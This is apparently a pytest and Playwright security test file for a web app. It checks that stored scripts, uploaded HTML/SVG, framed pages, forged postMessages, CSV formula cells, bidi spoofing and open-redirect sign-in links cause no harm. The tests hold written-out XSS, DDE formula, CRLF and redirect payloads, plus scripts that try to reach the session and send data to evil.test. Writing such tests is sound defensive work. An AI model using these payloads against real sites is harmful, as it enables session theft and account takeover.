"""Attacks on whoever looks at the pages: stored scripts, frames, and files that browsers open."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, Route, expect

from linlog import LinLogClient
from linlog.wire.tasks import ItemCreate, TaskCreate
from tests.attacks import targets
from tests.attacks.targets import Target
from tests.conftest import PASSWORD, Template
from tests.e2e.conftest import enter
from tests.factories import log_entries

SCRIPTS = (
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>",
    "javascript:pwned=1",
    "\"'><script>pwned=1</script>",
    "{{constructor.constructor('pwned=1')()}}",
    "\u202egnp.exe \u200b" + "e\u0301" * 40,
    "[a](javascript:pwned=1)![b](https://evil.test/beacon.png)",
)
HTML = """<!doctype html><title>a page</title><p id=said>quiet</p>
<img src="https://evil.test/beacon.png"><style>p { background: url(https://evil.test/b) }</style>
<form action="https://evil.test/" method=post id=form><input name=a value=b></form>
<script>
  document.getElementById("said").textContent = "ran";
  try { parent.document.title = "taken" } catch {}
  try { top.location = "https://evil.test/" } catch {}
  try { localStorage.setItem("taken", "1") } catch {}
  fetch("/api/v2/session").then((r) => r.json()).then((d) => { document.title = "read" });
  window.open("https://evil.test/");
  document.getElementById("form").submit();
</script>"""
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>document.documentElement.id="ran"</script></svg>'


@pytest.fixture(scope="module")
def target(template: Template, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Target]:
    """A watched server of these tests alone."""
    with targets.attacked(template, tmp_path_factory.mktemp("attacked")) as found:
        yield found


@pytest.fixture(autouse=True)
def _nothing_escapes(target: Target) -> Iterator[None]:
    """What must hold for the server, whatever browsers are made to send."""
    with target.withstanding():
        yield


@pytest.fixture(scope="module")
def client(target: Target) -> Iterator[LinLogClient]:
    """An owner's client of the server."""
    with LinLogClient(target.serving.origin, target.tokens["owner"]) as made:
        yield made


@pytest.fixture
def victim(page: Page, client: LinLogClient, target: Target) -> Page:
    """Someone who has signed in; what their browser asks of other machines is refused and noted.

    So is what the server fails at.
    """
    asked: list[str] = []
    page.on("response", lambda one: asked.append(one.url) if one.status >= 500 else None)

    def refuse(route: Route) -> None:
        asked.append(route.request.url)
        route.abort()

    page.context.route(lambda url: not url.startswith(client.base_url), refuse)
    page.asked = asked  # type: ignore[attr-defined]
    page.dialogs = []  # type: ignore[attr-defined]
    page.add_init_script(VIOLATIONS)
    page.on("dialog", lambda one: (page.dialogs.append(one.message), one.dismiss()))  # type: ignore[attr-defined]
    enter(page, client.base_url, target.person)
    return page


VIOLATIONS = """
  window.violations = [];
  addEventListener("securitypolicyviolation", (event) => {
    window.violations.push([event.violatedDirective, event.blockedURI, event.sourceFile]);
  });
"""
"""Notes what the policy of a page had to stop."""


def unharmed(page: Page) -> None:
    """No script of theirs ran, nothing was asked of another machine, and nothing is polluted."""
    assert page.evaluate("typeof pwned") == "undefined"
    assert page.evaluate("({}).polluted === undefined && [].polluted === undefined")
    assert page.dialogs == []  # type: ignore[attr-defined]
    assert page.asked == []  # type: ignore[attr-defined]
    assert len(page.context.pages) == 1


@pytest.mark.attack("C01", "C15")
def test_texts_are_shown_as_texts(victim: Page, client: LinLogClient, target: Target) -> None:
    polluted = {"__proto__": {"polluted": 1}, "constructor": {"prototype": {"polluted": 1}}}
    labels = [*SCRIPTS, "__proto__", "constructor", "prototype"]
    project = client.projects.create(SCRIPTS[0] + SCRIPTS[5], labels=labels)
    client.users.update(target.ids["user_id"], name=SCRIPTS[0])
    sent = [
        TaskCreate(
            item=ItemCreate(type="text", text=text, filename=f"{text}.txt"),
            unique_id=text,
            batch=text,
            tags=(text,),
            metadata={text: text, **polluted},
            complete=True,
        )
        for text in SCRIPTS
    ]
    tasks = client.tasks.create_all(project.id, sent).results
    for task, text in zip(tasks, SCRIPTS, strict=True):
        client.comments.create(task.id, text)
        client.reviews.reject(task.id, text)
    dataset = client.datasets.create(SCRIPTS[3].replace("/", " "), project_id=project.id)
    model = client.models.create(SCRIPTS[1])
    config = {SCRIPTS[3]: SCRIPTS[4], **polluted}
    version = client.model_versions.create(model.id, SCRIPTS[2], config=config)
    logged = {SCRIPTS[0]: 1.0, SCRIPTS[6]: SCRIPTS[1], "__proto__": 1.0, "constructor": 2.0}
    client.slices.create(dataset.id, SCRIPTS[1], f"tag:{json.dumps(SCRIPTS[0])}")
    log_entries.send(client, version.id, [log_entries.of(0, 1, **logged)])
    inside = f"/projects/{project.id}"
    for path in (
        *("/projects", inside, f"{inside}?view=table", f"{inside}/labels", f"{inside}/batches"),
        *(f"{inside}/tasks/{task.id}" for task in tasks),
        *("/datasets", f"/datasets/{dataset.id}", f"/datasets/{dataset.id}/versions"),
        *(f"/datasets/{dataset.id}/slices", f"{inside}/members", "/settings", "/audit"),
        *("/models", f"/models/{model.id}", f"/model-versions?model_id={model.id}&view=table"),
        *(f"/model-versions/{version.id}", f"/model-versions?model_id={model.id}&view=configs"),
        "/projects?__proto__[polluted]=1&constructor.prototype.polluted=1",
    ):
        victim.goto(f"{client.base_url}{path}")
        expect(victim.locator("main h1")).not_to_be_empty()
        expect(victim.locator("main h1")).not_to_have_text("There is no such page")
        expect(victim.locator(".mantine-Skeleton-root")).to_have_count(0)
        unharmed(victim)
        assert (path, victim.evaluate("window.violations")) == (path, [])
        width = victim.evaluate("document.documentElement.scrollWidth - innerWidth")
        assert width <= 0, f"{path} runs out of its window by {width} pixels"


@pytest.mark.attack("C02", "C05")
def test_a_file_that_is_opened_runs_nothing(victim: Page, client: LinLogClient) -> None:
    for content, name in ((HTML.encode(), "a.html"), (SVG, "a.svg")):
        file = client.files.create(content, filename=name)
        for address in (file.content_url, f"{client.base_url}/api/v2/files/{file.id}/content"):
            with victim.expect_download() as saved:
                victim.evaluate("address => { location = address }", address)
            assert Path(saved.value.path()).read_bytes() == content
            unharmed(victim)


@pytest.mark.attack("C04", "C05", "C16")
def test_a_page_of_a_task_reaches_nothing(victim: Page, client: LinLogClient) -> None:
    project = client.projects.create("Pages")
    new = TaskCreate(item=ItemCreate(type="html", text=HTML))
    (task,) = client.tasks.create_all(project.id, [new]).results
    victim.goto(f"{client.base_url}/api/v2/tasks/{task.id}/html")
    expect(victim.locator("#said")).to_have_text("quiet")
    assert victim.evaluate("origin") == "null"
    unharmed(victim)
    victim.goto(f"{client.base_url}/projects/{project.id}/tasks/{task.id}")
    framed = victim.frame_locator("iframe").locator("#said")
    expect(framed).to_have_text("quiet")
    assert victim.evaluate("localStorage.getItem('taken')") is None
    assert victim.title() not in {"taken", "read"}
    unharmed(victim)


@contextmanager
def site(html: str) -> Iterator[str]:
    """A site on loopback that answers everything with one page."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(html.encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = Thread(target=server.serve_forever, daemon=True)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}/"
        server.shutdown()
        thread.join()


@pytest.mark.attack("C14")
@pytest.mark.parametrize("path", ["/projects", "/sign-in", "/api/v2/projects", "/healthz"])
def test_no_other_site_shows_a_page_of_ours_in_a_frame(
    page: Page, client: LinLogClient, path: str
) -> None:
    with site(f'<title>evil</title><iframe src="{client.base_url}{path}"></iframe>') as evil:
        with page.expect_console_message(lambda said: "frame" in said.text.lower()):
            page.goto(evil)
        expect(page).to_have_title("evil")
        inner = page.frames[1]
        assert client.base_url not in inner.url


FORMULAS = (
    '=HYPERLINK("https://evil.test/"&A1)',
    "+cmd|' /C calc'!A0",
    "-1+1|x",
    "@SUM(A1)",
    " =1+1",
    "＝1+1",
    "a;=1+1",
)


@pytest.mark.attack("E12")
def test_tables_that_are_saved_run_nothing(victim: Page, client: LinLogClient) -> None:
    model = client.models.create(FORMULAS[0])
    for name in FORMULAS:
        version = client.model_versions.create(model.id, name, config={name: name})
        log_entries.send(client, version.id, [log_entries.of(0, 1, **{name: -1.5})])
    victim.goto(f"{client.base_url}/model-versions?model_id={model.id}&view=table")
    expect(victim.get_by_text("@SUM(A1)").first).to_be_visible()
    with victim.expect_download() as saved:
        victim.get_by_label("Download as CSV").first.click()
    text = Path(saved.value.path()).read_text(encoding="utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    formula = re.compile(r"\s*[=+\-@＝＋－＠]|[\t\r\n]")
    running = [cell for cell in cells if formula.match(cell) and not is_number(cell)]
    assert running == []
    # Nothing is lost: without its apostrophe each is what it was.
    assert {name.strip() for name in FORMULAS} <= {cell.removeprefix("'").strip() for cell in cells}
    assert re.search(r'(^|[,"])a;=1', text)
    unharmed(victim)


def is_number(cell: str) -> bool:
    """Whether a cell is a number, which runs nothing."""
    return re.fullmatch(r"-?[0-9.]+(e[+-]?[0-9]+)?", cell) is not None


ISOLATED = """() => {
  const found = [], walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const text = walker.currentNode;
    if (!/[\\u202a-\\u202e\\u2066-\\u2069]/.test(text.data)) continue;
    let around = text.parentElement, apart = false;
    while (around !== null && around.textContent === text.data && !apart) {
      const style = getComputedStyle(around);
      const flows = /^(inline|contents)$/.test(style.display);
      apart = /isolate|plaintext/.test(style.unicodeBidi) || !flows;
      around = around.parentElement;
    }
    found.push([apart, text.parentElement.outerHTML.slice(0, 200)]);
  }
  return found;
}"""
"""Each text that turns the writing over, and whether it does so to itself alone."""


@pytest.mark.attack("C17")
def test_writing_that_turns_over_turns_over_itself_alone(
    victim: Page, client: LinLogClient
) -> None:
    # Turned over, unseen, of two alphabets, and one letter with a hundred marks.
    name = "ab\u202egnp.exe\u200b раypal e" + "\u0301" * 100
    project = client.projects.create(name, labels=[name])
    new = TaskCreate(
        item=ItemCreate(type="text", text=name, filename=f"{name}.txt"), batch=name, tags=(name,)
    )
    (task,) = client.tasks.create_all(project.id, [new]).results
    model = client.models.create(name)
    version = client.model_versions.create(model.id, name, config={name: name})
    dataset = client.datasets.create(name, project_id=project.id)
    inside, seen = f"/projects/{project.id}", 0
    for path in (
        *("/projects", inside, f"{inside}?view=table", f"{inside}/labels", f"{inside}/batches"),
        *(f"{inside}/tasks/{task.id}", "/datasets", f"/datasets/{dataset.id}", "/models"),
        *(f"/models/{model.id}", f"/model-versions/{version.id}"),
        f"/model-versions?model_id={model.id}&view=table",
    ):
        victim.goto(f"{client.base_url}{path}")
        expect(victim.locator("main h1")).not_to_be_empty()
        expect(victim.locator(".mantine-Skeleton-root")).to_have_count(0)
        found = victim.evaluate(ISOLATED)
        assert (path, [where for apart, where in found if not apart]) == (path, [])
        seen += len(found)
        width = victim.evaluate("document.documentElement.scrollWidth - innerWidth")
        assert width <= 0, f"{path} runs out of its window by {width} pixels"
    assert seen > 10


FORGED = """<!doctype html><title>a page</title><script>
  const forged = [
    {type: "complete"}, {type: "linlog", action: "delete"}, "complete", null, 7, [1], {a: {b: 1}},
    {__proto__: null, constructor: {prototype: {polluted: 1}}}, "x".repeat(2000000),
    JSON.stringify({type: "navigate", to: "https://evil.test/"}),
  ];
  for (const whom of [parent, top]) for (const one of forged) whom.postMessage(one, "*");
  top.postMessage("last", "*");
</script>"""
HEARING = """
  window.heard = 0; window.arrived = [];
  const add = window.addEventListener;
  const note = (event) => {
    window.arrived.push([event.origin]);
    if (event.data === "last") document.documentElement.dataset.last = "arrived";
  };
  add.call(window, "message", note);
  window.addEventListener = function (kind, ...rest) {
    if (kind === "message") window.heard += 1;
    return add.call(this, kind, ...rest);
  };
"""


@pytest.mark.attack("C06")
def test_messages_from_a_frame_are_heard_by_nobody(
    page: Page, client: LinLogClient, target: Target
) -> None:
    with site(FORGED) as evil:
        project = client.projects.create("Frames")
        item = ItemCreate(type="iframe", url=evil)
        (task,) = client.tasks.create_all(project.id, [TaskCreate(item=item)]).results
        dialogs: list[str] = []
        page.on("dialog", lambda one: (dialogs.append(one.message), one.dismiss()))
        page.add_init_script(HEARING)
        enter(page, client.base_url, target.person)
        where = f"{client.base_url}/projects/{project.id}/tasks/{task.id}"
        page.goto(where)
        page.get_by_role("button", name="Show it here").click()
        expect(page.locator("html[data-last]")).to_have_count(1)
        # They came from an origin that nothing belongs to, and no part of the page listens.
        assert page.evaluate("window.arrived.every(([origin]) => origin === 'null')")
        assert page.evaluate("window.heard") == 0
        assert page.evaluate("({}).polluted === undefined")
        assert (page.url, dialogs) == (where, [])
        assert len(page.context.pages) == 1
        after = client.tasks.get(task.id)
        assert (after.complete, after.version) == (task.complete, task.version)


REACHING = """<!doctype html><title>a page</title><p id=said>quiet</p>
<form action="https://evil.test/" method=post id=form><input name=a value=b></form>
<script>
  const tried = {
    parent: () => { parent.document.title = "taken"; },
    top: () => { top.location = "https://evil.test/"; },
    stored: () => { localStorage.setItem("taken", "1"); },
    cookies: () => { document.cookie = "taken=1"; },
    opened: () => { if (window.open("https://evil.test/") === null) throw "blocked"; },
  };
  const reached = [];
  for (const [name, act] of Object.entries(tried)) try { act(); reached.push(name); } catch {}
  document.getElementById("form").submit();
  fetch("ORIGIN/api/v2/session", { credentials: "include" })
    .then(() => reached.push("session"), () => {})
    .then(() => { document.getElementById("said").textContent = `reached: ${reached}`; });
</script>"""


@pytest.mark.attack("C04")
def test_a_page_of_another_site_in_a_task_reaches_nothing(
    page: Page, client: LinLogClient, target: Target
) -> None:
    with site(REACHING.replace("ORIGIN", client.base_url)) as evil:
        asked: list[str] = []
        page.on("request", lambda one: asked.append(one.url))
        project = client.projects.create("Frames")
        item = ItemCreate(type="iframe", url=evil)
        (task,) = client.tasks.create_all(project.id, [TaskCreate(item=item)]).results
        enter(page, client.base_url, target.person)
        where = f"{client.base_url}/projects/{project.id}/tasks/{task.id}"
        page.goto(where)
        page.get_by_role("button", name="Show it here").click()
        said = page.frame_locator("iframe").frame_locator("iframe").locator("#said")
        expect(said).to_have_text("reached: ")
        assert (page.url, "taken" in page.title()) == (where, False)
        assert page.evaluate("localStorage.getItem('taken')") is None
        assert not [one for one in page.context.cookies() if one["name"] == "taken"]
        assert not [one for one in asked if "evil.test" in one]
        assert len(page.context.pages) == 1


@pytest.mark.attack("C12")
@pytest.mark.parametrize(
    "elsewhere",
    [
        *("//evil.test", "/\\evil.test", "https:evil.test", "javascript:pwned=1", "\\/evil.test"),
        *(
            "/%0d%0aSet-Cookie:a=b",
            "https://127.0.0.1@evil.test/",
            "/\t/evil.test",
            "data:text/html,x",
        ),
    ],
)
def test_signing_in_leads_to_our_own_pages_alone(
    page: Page, client: LinLogClient, target: Target, elsewhere: str
) -> None:
    asked: list[str] = []
    page.on("request", lambda one: asked.append(one.url))
    page.goto(f"{client.base_url}/sign-in?next={quote(elsewhere, safe='')}")
    page.get_by_label("Email").fill(target.person)
    page.get_by_label("Password", exact=True).fill(PASSWORD)
    page.keyboard.press("Enter")
    expect(page.get_by_label("Password", exact=True)).to_have_count(0)
    assert page.url.startswith(f"{client.base_url}/")
    assert [one for one in asked if not one.startswith(client.base_url)] == []
    assert page.evaluate("typeof pwned") == "undefined"
    assert {one["name"] for one in page.context.cookies()} == {"ll_session"}
